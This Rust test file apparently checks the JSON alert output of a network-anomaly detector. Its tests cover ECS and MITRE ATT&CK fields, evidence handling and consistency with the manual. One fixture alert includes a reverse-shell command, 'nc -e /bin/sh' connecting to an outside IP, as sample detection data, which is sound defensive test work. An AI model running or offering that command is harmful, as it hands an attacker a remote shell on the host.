use std::collections::BTreeSet;

use serde_json::{Map, Value, json};

use super::*;
use crate::alert::scene::DAY;
use crate::output::alerts::scene::{NOW, document as connection, named, quiet, shell, written};
use crate::output::scene::{HOSTILE, Scene};
use crate::output::unseen::is_unseen;

fn document(alert: &Alert) -> Map<String, Value> {
    let line = written(&mut Ndjson::new(), std::slice::from_ref(alert));
    assert_eq!(line.matches('\n').count(), 1, "{line}");
    assert!(!line.trim_end().chars().any(is_unseen), "{line}");
    assert!(!line.contains("null"), "{line}");
    match serde_json::from_str(&line).expect(&line) {
        Value::Object(document) => document,
        other => panic!("{other}"),
    }
}

/// The fields expected are there; null stands for a field that is not.
#[track_caller]
fn check(alert: &Alert, expected: Value) {
    let document = document(alert);
    for (name, value) in expected.as_object().expect("an object") {
        assert_eq!(document.get(name).unwrap_or(&Value::Null), value, "{name}");
    }
}

#[test]
fn an_alert_is_a_line_with_the_fields_that_were_promised() {
    let line = written(&mut Ndjson::new(), &[shell()]);
    let (own, evidence) = line.split_once(",\"oddsock.evidence\":[").expect("evidence");
    let expected = concat!(
        r#"{"@timestamp":"2026-08-14T10:15:00.000Z","ecs.version":"8.17.0","#,
        r#""event.kind":"alert","event.id":"92b0934275dccf84","event.severity":21,"#,
        r#""event.risk_score":21,"rule.id":"52afbdc5-db15-485e-bc24-f5707f820c4b","#,
        r#""rule.name":"Unusual Linux Network Activity","rule.version":"7","#,
        r#""rule.license":"MIT OR Apache-2.0","rule.reference":["https://example.org/rule"],"#,
        r#""rule.ruleset":"oddsock","threat.framework":"MITRE ATT&CK","#,
        r#""threat.tactic.id":["TA0011","TA0008"],"threat.tactic.name":["Command and Control","#,
        r#""Lateral Movement"],"#,
        r#""threat.tactic.reference":["https://attack.mitre.org/tactics/TA0011/","#,
        r#""https://attack.mitre.org/tactics/TA0008/"],"threat.technique.id":["T1071"],"#,
        r#""threat.technique.name":["Application Layer Protocol"],"#,
        r#""threat.technique.reference":["https://attack.mitre.org/techniques/T1071/"],"#,
        r#""threat.technique.subtechnique.id":["T1071.001"],"#,
        r#""threat.technique.subtechnique.name":["Web Protocols"],"#,
        r#""threat.technique.subtechnique.reference":["https://attack.mitre.org/techniques/T107"#,
        r#"1/001/"],"#,
        r#""host.name":["web-01"],"event.category":["network"],"event.module":"auditd","#,
        r#""event.dataset":"auditd.log","event.action":"connection_attempted","#,
        r#""event.type":["start"],"event.sequence":9001,"agent.id":"web-01","#,
        r#""host.os.type":"linux","process.name":"nc","#,
        r#""process.executable":"/usr/bin/nc.openbsd","process.pid":812,"process.parent.pid":1,"#,
        r#""process.args":["nc","-e","/bin/sh","93.184.216.34","443"],"process.args_count":5,"#,
        r#""process.command_line":"nc -e /bin/sh 93.184.216.34 443","#,
        r#""process.working_directory":"/tmp/.x","process.parent.name":"bash","#,
        r#""process.parent.executable":"bash","user.id":"1500","user.name":"lab","#,
        r#""user.effective.id":"1500","user.effective.name":"lab","user.audit.id":"1500","#,
        r#""user.audit.name":"lab","group.id":"1500","destination.ip":"93.184.216.34","#,
        r#""destination.port":443,"network.direction":"egress","network.type":"ipv4","#,
        r#""network.transport":"tcp","auditd.session":"3","auditd.arch":"x86_64","#,
        r#""auditd.syscall":"connect","auditd.fd":3,"tags":["net"],"#,
        r#""oddsock.job":"v3_linux_anomalous_network_activity","oddsock.function":"rare","#,
        r#""oddsock.by_field":"process.name","oddsock.by_value":"nc","#,
        r#""oddsock.bucket.start":"2026-08-14T10:15:00.000Z","oddsock.bucket.span":"15m","#,
        r#""oddsock.probability":4.82017e-4,"oddsock.score":76.0,"oddsock.threshold":50,"#,
        r#""oddsock.why":"nc was seen in 1 of 1,289 active quarter-hours since 1 Aug,"#,
        r#" never before; 5 other programs make up the rest; in about 11 of them it would be "#,
        r#"ordinary (score below 50)","#,
        r#""oddsock.history.first_seen":"2026-08-14T10:15:00.000Z","#,
        r#""oddsock.history.buckets_seen":1,"oddsock.history.buckets_total":1289,"#,
        r#""oddsock.history.hosts":1,"oddsock.history.cadence":"none","#,
        r#""oddsock.influencers":[{"field":"host.name","values":["web-01"],"number":1,"#,
        r#""score":76.0},{"field":"user.name","values":["alice","root"],"number":2,"#,
        r#""score":38.0}],"oddsock.connections":2"#,
    );
    assert_eq!(own, expected);
    assert_eq!(evidence.matches("{\"@timestamp\":").count(), 2);
}

#[test]
fn only_what_all_events_share_stands_in_the_alert_itself() {
    check(
        &shell(),
        json!({
            "process.executable": "/usr/bin/nc.openbsd",
            "destination.ip": "93.184.216.34",
            "destination.port": 443,
            "event.outcome": null,
            "event.kind": "alert",
            "host.name": ["web-01"],
        }),
    );
}

#[test]
fn the_evidence_stands_as_it_was_written() {
    let mut facts = quiet("process.name");
    let evidence = connection(&Scene::named(b"a\xff\"\n"));
    facts.see(NOW, "web-01", b"a\xff\"\n", &evidence);
    let line = written(&mut Ndjson::new(), &[facts.alert(NOW)]);
    assert!(line.contains(&format!(",\"oddsock.evidence\":[{evidence}]")), "{line}");
}

#[test]
fn a_rare_port_is_a_number_and_of_a_burst_there_is_a_list() {
    let mut facts = quiet("destination.port");
    facts.see(NOW, "web-01", b"4444", "{}");
    check(&facts.alert(NOW), json!({"destination.port": 4444, "oddsock.by_value": 4444}));
    let mut facts = quiet("destination.port");
    (4000..4020).for_each(|port| facts.see(NOW, "web-01", port.to_string().as_bytes(), "{}"));
    let document = document(&facts.alert(NOW));
    assert_eq!(document["oddsock.function"], "burst");
    assert_eq!(document["oddsock.by_value"], json!((4000..4020).collect::<Vec<_>>()));
    assert_eq!(document["destination.port"], document["oddsock.by_value"]);
    assert_eq!(document["oddsock.evidence"].as_array().map(Vec::len), Some(8));
    assert_eq!(document["oddsock.connections"], 20);
}

#[test]
fn a_rhythm_is_told_with_its_evidence() {
    let mut facts = quiet("process.name");
    (1..13).for_each(|day| facts.see(day * DAY + 8, "web-01", b"backup", "{}"));
    facts.see(NOW, "web-01", b"backup", "{}");
    let document = document(&facts.alert(NOW));
    assert_eq!(document["oddsock.history.cadence"], "daily");
    assert_eq!(document["oddsock.history.cadence_kept"], 12);
    assert_eq!(document["oddsock.history.cadence_comings"][11], "2026-08-13T02:00:00.000Z");
    assert_eq!(document["oddsock.history.last_seen"], "2026-08-13T02:00:00.000Z");
}

#[test]
fn bytes_that_are_not_utf8_can_be_had_again() {
    let document = document(&named(b"invalid \xff"));
    let exact = document["oddsock.bytes"].as_object().expect("exact bytes");
    let own = ["process.name", "host.name[0]", "host.name[1]", "oddsock.by_value"];
    for name in own.iter().chain(&["oddsock.partition", "oddsock.influencers[0].values[1]"]) {
        assert_eq!(exact[*name], "696e76616c696420ff", "{name}");
    }
}

#[test]
fn hostile_names_change_nothing_of_the_structure() {
    let expected: Vec<String> = document(&named(b"plain")).keys().cloned().collect();
    // What is empty has fewer fields, as it should.
    for name in HOSTILE.iter().filter(|name| !name.is_empty()) {
        let document = document(&named(name));
        let names = document.keys().filter(|name| *name != "oddsock.bytes");
        assert!(names.eq(&expected), "{document:#?}");
    }
    document(&named(b""));
}

#[test]
fn what_an_alert_does_not_know_is_absent() {
    let mut alert = shell();
    alert.evidence.clear();
    alert.hosts.clear();
    alert.influencers.clear();
    alert.connections.number = 0;
    check(
        &alert,
        json!({
            "oddsock.evidence": null, "oddsock.connections": null, "host.name": null,
            "oddsock.influencers": null, "oddsock.history.last_seen": null,
            "oddsock.provisional": null, "process.name": "nc",
        }),
    );
}

fn row_of_a_hunt() -> RowAlert {
    let text = |text: &str| text.to_string();
    RowAlert {
        id: text("0123456789abcdef"),
        rule: text("id"),
        hunt: text("short"),
        title: text("A Hunt"),
        license: text("MIT"),
        ruleset: text("oddsock"),
        techniques: vec![text("T1071")],
        query: 1,
        columns: vec![(text("process.name"), true)],
        values: vec![crate::hunt::Value::Whole(7)],
        newest_ms: 0,
        hosts: vec![b"web-01".to_vec()],
        connections: 1,
        evidence: vec![b"{}".to_vec()],
        excepted: None,
    }
}

#[test]
fn the_manual_has_every_field_of_an_alert_and_no_other() {
    let manual = include_str!("../../../man/oddsock-events.5");
    let (_, section) = manual.split_once(".SH ALERTS\n").expect("a section");
    let section = section.split("\n.SH ").next().expect("its text");
    let lines: Vec<&str> = section.lines().collect();
    let is_term = |pair: &&[&str]| pair[0] == ".TP" || pair[0] == ".TQ";
    let described: BTreeSet<String> = (lines.windows(2).filter(is_term))
        .flat_map(|pair| pair[1].split([' ', ',', '"']).skip(1))
        .filter(|word| !word.is_empty())
        .map(str::to_string)
        .collect();
    let mut alert = named(b"\xff");
    (alert.is_provisional, alert.is_expected) = (true, true);
    alert.history.last_seen_ms = Some(0);
    (alert.connections.is_exact, alert.history.hosts.is_exact) = (false, false);
    let mut facts = quiet("process.name");
    (1..13).for_each(|day| facts.see(day * DAY + 8, "web-01", b"backup", "{}"));
    facts.see(NOW, "web-01", b"backup", "{}");
    alert.history.cadence = facts.alert(NOW).history.cadence;
    let connection: Map<String, Value> =
        serde_json::from_slice(&alert.evidence[0]).expect("an object");
    let is_own = |name: &&String| {
        let changed = ["@timestamp", "event.kind", "event.id", "host.name"];
        changed.contains(&&name[..]) || !connection.contains_key(*name)
    };
    let mut written: BTreeSet<String> = document(&alert).keys().filter(is_own).cloned().collect();
    let mut row = Vec::new();
    Ndjson::new().row(&row_of_a_hunt(), &mut row);
    let row: Map<String, Value> = serde_json::from_slice(&row).expect("an object");
    written.extend(row.keys().filter(|name| name.starts_with("oddsock.")).cloned());
    assert_eq!(described, written, "left: the manual; right: what is written");
}
